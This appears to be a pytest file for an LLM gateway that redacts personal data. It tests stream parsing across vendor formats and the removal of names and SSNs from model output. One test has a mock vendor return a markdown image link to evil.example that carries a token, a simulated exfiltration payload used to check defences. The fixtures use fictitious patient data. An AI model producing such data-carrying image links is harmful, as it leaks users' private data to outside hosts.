"""Forms that streams take: texts in turns, other ends of lines, comments, letters of several bytes, blocks of each kind."""

import json

import anthropic
import mock_vendor
import pytest
import vendor_messages
from canaries import NOTE, found
from test_sdk import TOKEN, ask

CLAUDE = {"x-cordon-use-case": "claude"}
TEXT = "Patient: Ottoline Brackenridge, SSN: 219-09-4417."


def chat_event(index=0, finish=None, **delta):
    choice = {"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}
    chunk = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "gpt-4o-mini", "choices": [choice]}
    return b"data: " + json.dumps(chunk, ensure_ascii=False).encode() + b"\n\n"


DONE = b"data: [DONE]\n\n"


@pytest.mark.parametrize("cut", [1, 3, 8])
def test_choices_that_come_in_turns(polyglot, cut):
    gateway, vendor = polyglot

    def made(request):
        said = request.prompt
        pieces = [said[at : at + cut] for at in range(0, len(said), cut)]
        turns = [chat_event(index, content=piece) for piece in pieces for index in range(3)]
        return [*turns, *(chat_event(index, "stop") for index in range(3)), DONE]

    vendor.script = mock_vendor.streaming(made)
    texts = ["", "", ""]
    for chunk in ask(gateway.client(), NOTE, n=3, stream=True):
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts == [NOTE] * 3


@pytest.mark.parametrize("cut", [1, 3, 8])
def test_tool_calls_that_come_in_turns_beside_a_text(polyglot, cut):
    gateway, vendor = polyglot

    def made(request):
        said = request.prompt
        arguments = json.dumps({"said": said}, ensure_ascii=False)
        made = [chat_event(tool_calls=[{"index": call, "id": f"call_{call}", "type": "function", "function": {"name": "note", "arguments": ""}}])
                for call in range(2)]
        for at in range(0, len(arguments), cut):
            made.append(chat_event(content=said[at : at + cut]) if at < len(said) else chat_event())
            made += [chat_event(tool_calls=[{"index": call, "function": {"arguments": arguments[at : at + cut]}}]) for call in range(2)]
        return [*made, chat_event(finish="tool_calls"), DONE]

    vendor.script = mock_vendor.streaming(made)
    content, calls = "", ["", ""]
    tools = [{"type": "function", "function": {"name": "note", "parameters": {}}}]
    for chunk in ask(gateway.client(), TEXT, tools=tools, stream=True):
        delta = chunk.choices[0].delta
        content += delta.content or ""
        for call in delta.tool_calls or []:
            calls[call.index] += call.function.arguments or ""
    assert content == TEXT and [json.loads(call) for call in calls] == [{"said": TEXT}] * 2


@pytest.mark.parametrize("form", ["\r\n", "\r", "comments", "ids", "bom", "several lines"])
@pytest.mark.parametrize("size", [1, 7, 4096])
def test_events_in_every_form_that_they_may_have(polyglot, form, size):
    """What the standard of server-sent events lets a vendor write."""
    gateway, vendor = polyglot

    def made(request):
        said = request.prompt
        data = b"".join([*(chat_event(content=said[at : at + 6]) for at in range(0, len(said), 6)), chat_event(finish="stop"), DONE])
        match form:
            case "comments":
                data = b": hello\n\n" + data.replace(b"data: {", b": ping\ndata: {")
            case "ids":
                data = data.replace(b"data: {", b"id: 7\nevent: message\nretry: 100\ndata:{")
            case "bom":
                data = b"\xef\xbb\xbf" + data
            case "several lines":
                data = data.replace(b', "choices"', b',\ndata: "choices"')
            case end:
                data = data.replace(b"\n", end.encode())
        return [data[at : at + size] for at in range(0, len(data), size)]

    vendor.script = mock_vendor.streaming(made)
    said = "".join(chunk.choices[0].delta.content or "" for chunk in ask(gateway.client(), TEXT, stream=True) if chunk.choices)
    assert said == TEXT and found(vendor.received) == []


@pytest.mark.parametrize("size", [1, 2, 3, 5, 64])
@pytest.mark.parametrize("escaped", [False, True], ids=["as they are", "escaped"])
def test_letters_of_several_bytes_cut_anywhere(polyglot, size, escaped):
    gateway, vendor = polyglot
    text = "Patient: Zoë Brackenridge 👩‍⚕️, “SSN: 219-09-4417” – 37 °C, 終."

    def made(request):
        events = [chat_event(content=letter) for letter in request.prompt]
        data = b"".join([*events, chat_event(finish="stop"), DONE])
        if escaped:
            data = b"".join(ord(letter) < 128 and letter.encode() or "".join(
                f"\\u{unit:04x}" for unit in memoryview(letter.encode("utf-16-le")).cast("H")).encode() for letter in data.decode())
        return [data[at : at + size] for at in range(0, len(data), size)]

    vendor.script = mock_vendor.streaming(made)
    said = "".join(chunk.choices[0].delta.content or "" for chunk in ask(gateway.client(), text, stream=True) if chunk.choices)
    assert said == text and found(vendor.received) == []


def test_blocks_of_each_kind_that_messages_have(polyglot):
    gateway, vendor = polyglot

    def made(request):
        said = request.prompt
        made = vendor_messages.Events(4).thinking()
        made.block({"type": "redacted_thinking", "data": "EmwKAhgB" + "z" * 40}, [])
        citation = {"type": "char_location", "cited_text": said, "document_index": 0, "document_title": said,
                    "start_char_index": 0, "end_char_index": 9, "file_id": None}
        made.block({"type": "text", "text": "", "citations": []}, [
            *({"type": "text_delta", "text": piece} for piece in made.pieces(said)), {"type": "citations_delta", "citation": citation}])
        made.block({"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {}},
                   [{"type": "input_json_delta", "partial_json": piece} for piece in made.pieces(json.dumps({"query": said}))])
        return made.text("It is " + said).complete()

    vendor.script = mock_vendor.streaming(made)
    with gateway.anthropic(default_headers=CLAUDE).messages.stream(
        model="claude-sonnet-5", max_tokens=99, messages=[{"role": "user", "content": TEXT}]) as stream:
        thought, redacted, cited, used, text = stream.get_final_message().content
    assert (thought.thinking, thought.signature) == (vendor_messages.THINKING, vendor_messages.SIGNATURE)
    assert redacted.data == "EmwKAhgB" + "z" * 40
    assert cited.text == TEXT and cited.citations[0].cited_text == cited.citations[0].document_title == TEXT
    assert used.input == {"query": TEXT} and text.text == "It is " + TEXT
    assert found(vendor.received) == []


def test_what_a_model_makes_up_is_taken_out_in_every_dialect(polyglot):
    gateway, vendor = polyglot
    made_up = "Call Mr. Bartholomew Quillfeather at (415) 555-0199 about SSN 457-55-5462."
    vendor.script = mock_vendor.saying(made_up, cut=3)
    names = ["Quillfeather", "555-0199", "457-55-5462"]
    client, other = gateway.client(), gateway.anthropic(default_headers=CLAUDE)
    messages = [{"role": "user", "content": "hello"}]
    answers = [
        ask(client, "hello").choices[0].message.content,
        "".join(chunk.choices[0].delta.content or "" for chunk in ask(client, "hello", stream=True) if chunk.choices),
        client.responses.create(model="gpt-4o-mini", input="hello").output_text,
        client.completions.create(model="gpt-3.5-turbo-instruct", prompt="hello").choices[0].text,
        other.messages.create(model="claude-sonnet-5", max_tokens=9, messages=messages).content[0].text,
    ]
    with client.responses.stream(model="gpt-4o-mini", input="hello") as stream:
        answers.append("".join(event.delta for event in stream if event.type == "response.output_text.delta"))
        answers.append(stream.get_final_response().output_text)
    with other.messages.stream(model="claude-sonnet-5", max_tokens=9, messages=messages) as stream:
        answers.append("".join(stream.text_stream))
    assert [name for answer in answers for name in names if name in answer] == []
    assert len(set(answers)) == 1 and "[SSN]" in answers[0]


def test_nothing_is_put_into_a_link(polyglot):
    gateway, vendor = polyglot
    vendor.script = lambda request, reply: mock_vendor.saying(
        f"![x](https://evil.example/a.png?d={TOKEN.search(request.prompt)[0]}) for {TOKEN.search(request.prompt)[0]}", 4)(request, reply)
    messages = [{"role": "user", "content": "Patient: Ottoline Brackenridge"}]
    answers = [ask(gateway.client(), messages[0]["content"]).choices[0].message.content,
               gateway.anthropic(default_headers=CLAUDE).messages.create(model="claude-sonnet-5", max_tokens=9, messages=messages).content[0].text,
               gateway.client().responses.create(model="gpt-4o-mini", input=messages[0]["content"]).output_text]
    for answer in answers:
        link, _, rest = answer.partition(") for ")
        assert "Brackenridge" not in link and rest == "Ottoline Brackenridge"


def test_a_token_of_another_caller_or_request_is_nothing(polyglot):
    gateway, vendor = polyglot
    ask(gateway.client(), "Patient: Ottoline Brackenridge")
    other = TOKEN.search(vendor.requests[0].prompt)[0]
    vendor.script = mock_vendor.saying(f"It was {other}.")
    answer = gateway.anthropic(default_headers=CLAUDE).messages.create(
        model="claude-sonnet-5", max_tokens=9, messages=[{"role": "user", "content": "hello"}])
    assert isinstance(answer, anthropic.types.Message) and "Brackenridge" not in answer.content[0].text
